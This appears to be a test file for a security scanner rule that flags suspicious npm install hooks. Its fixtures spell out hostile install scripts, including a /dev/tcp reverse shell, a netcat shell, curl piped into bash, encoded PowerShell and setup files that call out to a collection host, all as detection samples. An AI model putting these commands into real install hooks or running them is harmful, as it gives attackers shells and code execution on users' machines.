import { installScript } from '../../../src/rules/package/install-script.js';
import { manifest, packageRuleTester } from './rule-tester.js';

// Line 5 is the first script in `{ name, version, scripts: { … } }`.
packageRuleTester(installScript, {
  valid: [
    {
      name: 'no scripts',
      files: { 'package.json': manifest({ name: 'a-mcp', version: '1.0.0' }) },
    },
    {
      name: 'prepare does not run on registry installs',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { prepare: 'npm run build', build: 'tsc' },
        }),
      },
    },
    {
      name: 'build and start scripts are not install hooks',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { build: 'curl -o x https://example.invalid/x', start: 'node dist/index.js' },
        }),
      },
    },
    {
      name: 'an empty postinstall',
      files: { 'package.json': manifest({ name: 'a-mcp', version: '1.0.0', scripts: { postinstall: ' ' } }) },
    },
  ],
  invalid: [
    {
      name: 'a /dev/tcp reverse shell in preinstall',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { preinstall: 'bash -c "bash -i >& /dev/tcp/192.0.2.1/2333 0>&1"' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.preinstall', severity: 'critical', message: 'reverse shell' }],
    },
    {
      name: 'netcat handing a shell to a remote host',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'nc 203.0.113.9 4444 -e /bin/sh' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'critical', message: 'netcat' }],
    },
    {
      name: 'a download piped into a shell',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { install: 'curl -fsSL https://get.example.invalid/setup.sh | bash' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.install', severity: 'critical', message: 'downloads code' }],
    },
    {
      name: 'wget from an IP address',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { install: 'wget -q http://198.51.100.3/x -O /tmp/x' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.install', severity: 'high', message: '198.51.100.3' }],
    },
    {
      name: 'node -e with inline code',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'node -e "require(\'child_process\')"' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'high', message: 'inline JavaScript' }],
    },
    {
      name: 'encoded PowerShell',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'powershell -NoProfile -enc SQBFAFgA' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'high', message: 'PowerShell' }],
    },
    {
      name: 'curl of a GitHub release without a pipe is medium',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: {
            postinstall:
              'curl -fsSLo bin/tool https://github.com/example/tool/releases/download/v1.0.0/tool-linux',
          },
        }),
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'medium', message: 'github.com' }],
    },
    {
      name: 'node <file> that posts to a foreign host',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'node scripts/setup.js' },
        }),
        'scripts/setup.js':
          "const https = require('node:https');\nhttps.get('https://collect.example.invalid/p');\n",
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'high', message: 'collect.example.invalid' }],
    },
    {
      name: 'node <file> whose network code sits in an imported file',
      files: {
        'package.json': manifest({ name: 'a-mcp', version: '1.0.0', scripts: { postinstall: 'node setup' } }),
        'setup.js': "require('./lib/send');\n",
        'lib/send.js': "fetch('http://203.0.113.9:8080/x');\n",
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'high', message: '203.0.113.9' }],
    },
    {
      name: 'node <file> that uses the network towards a computed address',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'node ./setup.js' },
        }),
        'setup.js': "import { get } from 'node:https';\nget(process.env.TARGET);\n",
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'medium', message: 'built at run time' }],
    },
    {
      name: 'a shell script file with a download piped to sh',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'sh ./install.sh' },
        }),
        'install.sh': '#!/bin/sh\nset -e\ncurl -s https://example.invalid/i | sh\n',
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'critical', message: 'install.sh' }],
    },
    {
      name: 'node-gyp rebuild is info',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { install: 'node-gyp rebuild' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.install', severity: 'info', message: 'only builds' }],
    },
    {
      name: 'prebuild-install with a node-gyp fallback is info',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { install: 'prebuild-install -r napi || node-gyp rebuild' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.install', severity: 'info' }],
    },
    {
      name: 'a binary fetcher from the npm registry is info',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'node install.js' },
        }),
        'install.js':
          "const https = require('https');\nconst cp = require('child_process');\n" +
          'https.get(`https://registry.npmjs.org/a-mcp-${process.platform}/-/x.tgz`);\n',
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'info', message: 'registry.npmjs.org' }],
    },
    {
      name: 'a URL that is only printed',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'echo "Docs: https://docs.example.invalid/setup" && node-gyp rebuild' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'info' }],
    },
    {
      name: 'a banner with colour escapes is not hidden text',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'node banner.js' },
        }),
        'banner.js': "console.log('\\u001b[32m  thanks for installing  \\u001b[0m');\n".repeat(12),
      },
      hits: [
        { line: 5, field: 'scripts.postinstall', severity: 'info', message: 'neither uses the network' },
      ],
    },
    {
      name: 'a fetcher that checks an integrity digest is info',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'node install.js' },
        }),
        'install.js':
          "const https = require('https');\nconst { createHash } = require('crypto');\n" +
          "https.get('https://github.com/example/a-mcp/releases/download/v1.0.0/a-mcp.tgz', (res) => {\n" +
          "  const hash = createHash('sha512');\n  res.on('end', () => hash.digest('base64'));\n});\n",
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'info', message: 'github.com' }],
    },
    {
      name: 'printable text hidden in escapes is high',
      files: {
        'package.json': manifest({ name: 'a-mcp', version: '1.0.0', scripts: { postinstall: 'node t.js' } }),
        't.js': `const s = '${'\\x68\\x74\\x74\\x70'.repeat(6)}';\n`,
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'high', message: '24 escape sequences' }],
    },
    {
      name: 'an unknown command is low',
      files: {
        'package.json': manifest({ name: 'a-mcp', version: '1.0.0', scripts: { postinstall: 'make all' } }),
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'low', message: 'make all' }],
    },
    {
      name: 'a missing file is low',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: { postinstall: 'node dist/postinstall.js' },
        }),
      },
      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'low', message: 'not in the package' }],
    },
    {
      name: 'each install hook is reported on its own line',
      files: {
        'package.json': manifest({
          name: 'a-mcp',
          version: '1.0.0',
          scripts: {
            build: 'tsc',
            preinstall: 'echo hi',
            postinstall: 'curl https://example.invalid | bash',
          },
        }),
      },
      hits: [
        { line: 6, field: 'scripts.preinstall', severity: 'info' },
        { line: 7, field: 'scripts.postinstall', severity: 'critical' },
      ],
    },
  ],
});
